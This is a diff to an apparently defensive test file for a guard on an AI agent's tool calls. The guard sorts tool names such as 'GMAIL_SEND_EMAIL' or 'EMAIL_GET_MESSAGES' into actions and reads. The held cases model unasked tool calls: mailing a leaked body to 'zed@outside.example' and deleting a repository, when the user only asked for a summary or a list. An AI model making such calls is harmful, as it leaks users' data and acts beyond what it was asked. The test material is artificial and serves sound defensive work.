@@ -5,7 +5,9 @@ Semantic Kernel names a plugin's function ``EmailPlugin-SendEmail`` (or
 ``plugin__function``, ``mcp__server__tool`` or ``functions.send_email``. The plugin's
 name is a namespace: the operation after it is what the call does, and a reader's verb
 there reads even when the plugin is named after an effect (``EmailPlugin-GetEmails``).
-Kebab case (``get-email-messages``) and PowerShell's ``Verb-Noun`` stay one name.
+Kebab case (``get-email-messages``) and PowerShell's ``Verb-Noun`` stay one name. A
+resource's or a toolkit's name may also lead with no separator of its own
+(``EMAIL_GET_MESSAGES``, ``transfer_get_status``): ``get`` or ``fetch`` second reads.
 """
 
 from __future__ import annotations
@@ -80,6 +82,29 @@ _HELD: dict[str, tuple[str, dict[str, Any], str]] = {
         {"itemId": "i-1", "quantity": 2},
         "What's in my cart?",
     ),
+    # A toolkit's or a resource's name first, in capitals (``GMAIL_SEND_EMAIL``).
+    "toolkit's mail sent": (
+        "GMAIL_SEND_EMAIL",
+        {"recipient_email": "zed@outside.example", "body": _LEAK},
+        "Summarize my inbox.",
+    ),
+    "toolkit's repository deleted": (
+        "GITHUB_DELETE_A_REPOSITORY",
+        {"owner": "acme", "repo": "core"},
+        "List my repositories.",
+    ),
+    # A reader's verb second reads only after a name, not after a verb that acts, and
+    # not when a verb that deletes follows it.
+    "results sent, a fetch after the send": (
+        "send_fetch_results",
+        {"to": "zed@outside.example", "body": _LEAK},
+        "Summarize my inbox.",
+    ),
+    "mail fetched and deleted": (
+        "email_get_and_delete_messages",
+        {"folder": "inbox"},
+        "Summarize my inbox.",
+    ),
 }
 
 # (tool, args, instruction): each must run on its own.
@@ -123,6 +148,18 @@ _ROUTINE: dict[str, tuple[str, dict[str, Any], str]] = {
         "WebPlugin-GetPageText",
         {"url": "https://example.org"},
         "Read example.org for me.",
+    ),
+    "toolkit's mail fetched": ("GMAIL_FETCH_EMAILS", {"max_results": 10}, "Summarize my inbox."),
+    "mail read, resource first in capitals": (
+        "EMAIL_GET_MESSAGES",
+        {"max_results": 10},
+        "Summarize my inbox.",
+    ),
+    "mail read, resource first": ("email_get_messages", {"top": 5}, "Summarize my inbox."),
+    "transfer's status read, resource first": (
+        "TRANSFER_GET_STATUS",
+        {"id": "t-1"},
+        "Did my transfer go through?",
     ),
     "kebab-case reader": ("get-email-messages", {"folder": "inbox"}, "Summarize my inbox."),
     "cmdlet reader": ("Get-EmailMessage", {"folder": "inbox"}, "Summarize my inbox."),
